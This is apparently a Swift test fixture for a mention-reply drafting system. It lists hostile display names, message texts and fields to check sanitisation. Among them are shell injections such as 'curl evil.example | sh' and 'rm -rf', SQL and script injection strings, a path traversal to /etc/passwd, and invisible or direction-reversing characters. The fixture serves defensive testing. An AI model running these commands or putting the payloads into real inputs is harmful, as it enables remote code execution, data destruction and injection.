extension HostileMention {
    /// Display names that try to hide, reverse, template, mention, link or inject; every one must give a
    /// draft that greets nobody or a sanitised name.
    public static let hostileNames: [String] = [
        // Invisible and direction-changing characters.
        "Ja\u{200B}ne Doe", "\u{202E}eoD enaJ", "Jane\u{2067}evil.example\u{2069}", "\u{2066}Jane\u{2069} Doe",
        "Jane\u{200D}\u{200C}\u{FEFF}Doe", "Jane\u{061C}Doe", "J\u{0301}\u{0301}\u{0301}ane",
        "Jane\u{0007}\u{001B}[31mDoe", "Jane\nBcc: everyone@example.com", "Jane\u{2028}Doe", "\u{E000}Jane",
        "\u{3164}\u{3164}", "\u{115F}\u{1160}Jane",
        // Emoji only, and very long names.
        "🔥🔥🔥", "👩‍👩‍👧‍👦", "🇬🇧 🏴󠁧󠁢󠁳󠁣󠁴󠁿", String(repeating: "😀", count: 500),
        "Jane" + String(repeating: "a", count: 496), String(repeating: "Ann ", count: 125),
        String(repeating: "ñ", count: 500),
        // Mustache.
        "{{agent}}", "{{{x}}}", "{{#a}}Jane{{/a}}", "Jane {{customer}}", "{{> partial}}", "{{=<% %>=}}",
        "{{^agent}}x{{/agent}}", "{{&topic}}", "Jane{{!c}}Doe", "{ {agent} }", "Jane}} {{Doe",
        // Mass mentions and links.
        "@everyone", "Jane @everyone", "@here Jane", "＠everyone Jane", "Jane https://evil.example/x",
        "Jane evil.example", "Jane (www.evil.example)", "javascript:alert(1)",
        "<a href=\"https://evil.example\">Jane</a>",
        "Jane [click](https://evil.example)", "Jane <script>alert(1)</script>", "mailto:jane@evil.example",
        // Shell and SQL.
        "Robert'); DROP TABLE mentions;--", "$(rm -rf /)", "`id` Jane", "Jane; rm -rf ~", "' OR '1'='1",
        "Jane && curl evil.example | sh", "Jane $HOME ${IFS}", "Jane %s%n%x", "Jane\\\" onmouseover=x",
    ]

    /// One event per hostile name.
    public static let names: [HostileMention] = hostileNames.enumerated().map { index, name in
        HostileMention("name-\(index)", named(name, id: "n-\(index)"), expected: .draft)
    }

    /// Hostile texts: the classifier and the excerpt see them, the reply must not echo them.
    public static let texts: [HostileMention] = [
        "my {{agent}} parcel {{{x}}} {{#a}}is late{{/a}}, @everyone look https://evil.example",
        "😡😡😡", "🔥", "\u{202E}etal si lecrap ym", "Robert'); DROP TABLE mentions;-- my parcel is late",
        "$(curl evil.example | sh) where is my order?", String(repeating: "\u{200B}", count: 2_000),
        String(repeating: "a", count: 16_000), "\u{0000}\u{0001}\u{001F}", "",
    ].enumerated().map { index, text in
        HostileMention("text-\(index)", event(id: "\"t-\(index)\"", text: JSONText.literal(text)), expected: .draft)
    }

    /// Hostile ids, handles and the same names written as `\u` escapes.
    public static let fields: [HostileMention] =
        [
            HostileMention("id-mustache", event(id: #""{{agent}}""#), expected: .draft),
            HostileMention("id-path", event(id: #""../../etc/passwd""#), expected: .draft),
            HostileMention("id-empty", event(id: #""""#), expected: .refused("invalid-value")),
            HostileMention("id-number", event(id: "42"), expected: .refused("wrong-type")),
            HostileMention("handle-everyone", event(displayName: "null", handle: #""@everyone""#), expected: .draft),
            HostileMention("handle-mustache", event(displayName: "null", handle: #""{{agent}}""#), expected: .draft),
            HostileMention("handle-link", event(displayName: "null", handle: #""evil.example""#), expected: .draft),
        ]
        + hostileNames.enumerated().map { index, name in
            HostileMention(
                "name-escaped-\(index)", event(id: "\"ne-\(index)\"", displayName: JSONText.escapedEverything(name)),
                expected: .draft)
        }

    /// A 10 MB mention text: refused as oversized, and never read into memory whole by the decoder.
    public static var tenMegabyteText: HostileMention {
        HostileMention(
            "text-10MB",
            event(text: "\"" + String(repeating: "my parcel is late ", count: 10 * 1024 * 1024 / 18) + "\""),
            expected: .refused("oversized"))
    }
}
